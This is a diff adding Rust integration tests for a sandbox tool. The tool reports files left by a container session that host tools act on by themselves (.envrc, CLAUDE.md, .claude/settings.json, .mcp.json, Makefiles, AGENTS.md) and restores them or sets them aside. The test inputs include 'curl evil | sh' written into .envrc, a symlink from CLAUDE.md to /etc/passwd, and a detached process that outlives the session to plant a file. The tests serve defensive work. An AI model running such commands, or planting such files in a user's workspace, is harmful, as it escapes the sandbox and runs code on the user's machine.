@@ -1,0 +1,101 @@
+//! What tools of the host obey, with a real container: told when a session is left, shown, asked about and undone.
+
+use crate::support::run::Run;
+use crate::support::sandbox::Sandbox;
+use crate::support::terminal::Terminal;
+use std::fs;
+
+/// What a session writes: of the user's, anew, deep, in a directory that is closed afterwards, and as a fifo.
+const WRITES: &str = "echo 'curl evil | sh' >>.envrc\n\
+                      mkdir -p a/b/.claude && echo '{}' >a/b/.claude/settings.json && chmod 0 a/b/.claude\n\
+                      rm CLAUDE.md && mkfifo CLAUDE.md\n\
+                      printf 'all:\\n' >a/b/GNUmakefile\n";
+
+fn left<'a>(sandbox: &'a Sandbox, args: &[&'static str]) -> Run<'a> {
+    sandbox.task("sandbox").args(["--yes", "--shell"]).args(args.iter().copied()).stdin(WRITES).run().ok()
+}
+
+fn prepared() -> Sandbox {
+    let sandbox = Sandbox::new();
+    fs::write(sandbox.workspace().join(".envrc"), "export A=1\n").expect("a file");
+    fs::write(sandbox.workspace().join("CLAUDE.md"), "of the user\n").expect("a file");
+    sandbox
+}
+
+#[track_caller]
+fn told(run: &Run) {
+    for line in [
+        "in the workspace, `.envrc` changed: check this before you run direnv there",
+        "\n    + curl evil | sh\n",
+        "`CLAUDE.md` changed (a fifo, a socket or a device)",
+        "`a/b/.claude/settings.json` is new",
+        "`a/b/GNUmakefile` is new: check this before you run make there",
+    ] {
+        assert!(run.stderr.contains(line), "{line:?} in: {}", run.stderr);
+    }
+}
+
+#[test]
+fn what_acts_by_itself_is_kept_where_nobody_says_otherwise_and_put_back_where_somebody_does() {
+    let sandbox = prepared();
+    let at = |name: &str| sandbox.workspace().join(name);
+    let run = left(&sandbox, &[]);
+    told(&run);
+    assert!(run.stderr.contains("is kept, because nobody could be asked"), "{}", run.stderr);
+    assert_eq!(fs::read_to_string(at(".envrc")).expect("it"), "export A=1\ncurl evil | sh\n");
+    let run = sandbox.enter(["--version"]).ok();
+    assert!(!run.stderr.contains("`.envrc`"), "told once: {}", run.stderr);
+
+    // The user's own changes between two sessions are told, and not asked about.
+    fs::write(at(".envrc"), "export B=2\n").expect("a file");
+    fs::remove_file(at("CLAUDE.md")).expect("the fifo");
+    fs::write(at("CLAUDE.md"), "of the user\n").expect("a file");
+    let again = "echo evil >.envrc; rm CLAUDE.md; ln -s /etc/passwd CLAUDE.md; echo x >.mcp.json; echo y >Makefile\n";
+    let run = sandbox.task("sandbox").args(["--yes", "--shell", "--on-change", "restore"]).stdin(again).run().ok();
+    let (before, after) = run.stderr.split_once("$ docker exec").expect("the session");
+    assert!(before.contains("since the sandbox was last looked at, in the workspace, `.envrc` changed"), "{before}");
+    assert!(
+        after.contains("`.envrc` is what it was; what took its place is set aside as `.envrc.set-aside-1`"),
+        "{after}"
+    );
+    assert_eq!(fs::read_to_string(at(".envrc")).expect("it"), "export B=2\n");
+    assert_eq!(fs::read_to_string(at(".envrc.set-aside-1")).expect("it"), "evil\n");
+    assert_eq!(fs::read_to_string(at("CLAUDE.md")).expect("it"), "of the user\n");
+    assert!(
+        at("CLAUDE.md.set-aside-1").is_symlink() && at(".mcp.json.set-aside-1").exists() && !at(".mcp.json").exists()
+    );
+    assert!(at("Makefile").exists(), "an ordinary file of the project is only named");
+}
+
+#[test]
+fn what_is_new_is_set_aside_at_the_exit_and_by_down() {
+    let sandbox = prepared();
+    let at = |name: &str| sandbox.workspace().join(name);
+    let run = left(&sandbox, &["--on-change", "aside"]);
+    told(&run);
+    assert!(!at(".envrc").exists() && at(".envrc.set-aside-1").exists() && !at("CLAUDE.md").exists());
+    assert!(at("a/b/.claude/settings.json.set-aside-1").exists() && at("a/b/GNUmakefile").exists());
+    let late = "setsid sh -c 'until [ -e go ]; do sleep 0.1; done; echo x >AGENTS.md; touch done' >/dev/null 2>&1 </dev/null &\n";
+    sandbox.task("sandbox").args(["--yes", "--shell"]).stdin(late).run().ok();
+    fs::write(at("go"), "").expect("a sign");
+    crate::support::proc::wait_for("its file", 20, || at("done").exists().then_some(()));
+    let run = sandbox.task("down").args(["--on-change", "aside"]).run().ok();
+    assert!(run.stderr.contains("`AGENTS.md` is set aside as `AGENTS.md.set-aside-1`"), "{}", run.stderr);
+    assert!(!at("AGENTS.md").exists());
+}
+
+#[test]
+fn a_terminal_asks_and_an_answer_restores() {
+    let sandbox = prepared();
+    let terminal = Terminal::open(&sandbox.place, sandbox.task("sandbox").args(["--shell"]));
+    terminal.shows("Enter a shell? [Y/n]", 180);
+    terminal.press("Enter");
+    terminal.shows("$ ", 20);
+    terminal.types("echo evil >>.envrc; exit");
+    terminal.press("Enter");
+    terminal.shows("Keep what acts by itself, restore what was there, or set it aside? [K/r/a]", 60);
+    terminal.types("r");
+    terminal.press("Enter");
+    terminal.shows("`.envrc` is what it was", 20);
+    assert_eq!(fs::read_to_string(sandbox.workspace().join(".envrc")).expect("it"), "export A=1\n");
+}
